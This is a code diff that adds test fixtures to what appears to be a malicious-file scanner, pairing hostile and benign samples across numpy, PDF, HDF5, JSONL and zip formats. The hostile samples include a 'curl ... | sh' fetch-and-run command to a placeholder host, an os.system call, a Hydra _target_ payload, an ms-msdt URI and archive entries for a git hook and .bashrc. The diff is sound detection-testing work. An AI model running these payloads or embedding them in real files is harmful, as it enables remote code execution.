@@ -6,7 +6,9 @@ import io
 import json
 import lzma
 import pickle
+import re
 import struct
+import zipfile
 import zlib
 from base64 import a85encode, b32encode, b64encode, b85decode, b85encode
 from collections.abc import Callable
@@ -181,6 +183,34 @@ def stream(body: bytes) -> bytes:
     return document(b">>endobj\n2 0 obj<<>>stream\n" + body + b"\nendstream")
 
 
+COMMAND, CODE = "curl -s http://x.invalid/a | sh", "import os; os.system('echo')"
+TARGET = json.dumps({"a": {"_target_": "os.system"}})
+
+
+def array(kind: str, data: bytes) -> bytes:
+    width = next(int(number) * (4 if "U" in kind else 1) for number in re.findall(r"[USui](\d+)'", kind)[-1:])
+    shape = len(data) // (width + 2 if kind[0] == "[" else width)
+    header = f"{{'descr': {kind}, 'fortran_order': False, 'shape': ({shape},), }}".encode()
+    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + data
+
+
+def letters(*texts: str) -> bytes:
+    return b"".join(
+        text.ljust(90 if len(text) > 60 or "_target_" in text else 60, "\0").encode("utf-32-le") for text in texts
+    )
+
+
+def fields(*texts: bytes) -> bytes:
+    return b"".join(text.ljust(60, b"\0") for text in texts)
+
+
+def member(name: str) -> bytes:
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w") as archive:
+        archive.writestr(name, "a word")
+    return written.getvalue()
+
+
 def noted(value: str) -> bytes:
     header = json.dumps({"__metadata__": {"picture": value}}).encode()
     return struct.pack("<Q", len(header)) + header
@@ -203,6 +233,26 @@ def trees(parameter: str) -> str:
         ("a.pkl", pickle.dumps(b"a header" + bytes(9) + LINES), pickle.dumps(b"cats\nsystem\n(words)")),
         ("a.h5", varying(HOSTILE.hex().encode()), varying(b"a text")),
         ("a.h5", varying(HOSTILE), varying(pickle.dumps(["as pandas", "keeps it"]))),
+        ("a.npy", array("'<U60'", letters("a word", COMMAND)), array("'<U60'", letters("a word", "python train.py"))),
+        ("b.npy", array("'|S60'", fields(b"a word", COMMAND.encode())), array("'|S60'", fields(b"curl", b"sh"))),
+        ("c.npy", array("'|u1'", bytes(99) + HOSTILE), array("'|u1'", bytes(99) + PLAIN)),
+        ("d.npy", array("[('a', '<i2'), ('b', '<U60')]", b"\1\0" + letters(CODE)), array("'<U60'", letters("import numpy"))),
+        ("e.npy", array("'<i4'", b"".join(bytes([byte, 0, 0, 0]) for byte in PROGRAM)), array("'<i4'", bytes(range(64)))),
+        ("f.npy", array("'<U90'", letters(TARGET)), array("'<U90'", letters('{"a": {"_target_": "torch.nn.Linear"}}'))),
+        ("b.pdf", stream(zlib.compress(b"words" + HOSTILE)), stream(zlib.compress(b"BT (import os) Tj ET"))),
+        ("c.pdf", document(b"/Title(%s)" % COMMAND.encode()), document(b"/Title(A study of curl, and of sh)")),
+        (
+            "d.pdf",
+            document(b"/Title<%s>" % COMMAND.encode("utf-16-be").hex().encode()),
+            document(b"/Title<%s>" % (b"0041" * 9)),
+        ),
+        ("e.pdf", document(b"/A<</S/URI/URI(ms-msdt:/id x)>>"), document(b"/A<</S/URI/URI(mailto:a@x.invalid)>>")),
+        ("f.pdf", stream(zlib.compress(zlib.compress(HOSTILE))), stream(zlib.compress(zlib.compress(PLAIN)))),
+        ("a.h5", varying(COMMAND.encode()), varying(b"python train.py")),
+        ("a.jsonl", json.dumps({"a": b64encode(HOSTILE).decode()}), json.dumps({"a": b64encode(PLAIN).decode()})),
+        ("a.zip", member("a/.git/hooks/post-checkout"), member("a/.git/hooks/post-checkout.sample")),
+        ("b.zip", member("home/.bashrc"), member("home/bashrc.md")),
+        ("c.zip", member("a/aux.txt"), member("a/auxiliary.txt")),
         ("a.tfrecord", record(HOSTILE), record(PLAIN)),
         ("b.tfrecord", record(PROGRAM), record(b"a text of some words")),
         ("a.png", picture(HOSTILE), picture(b"lcms and nothing that runs")),
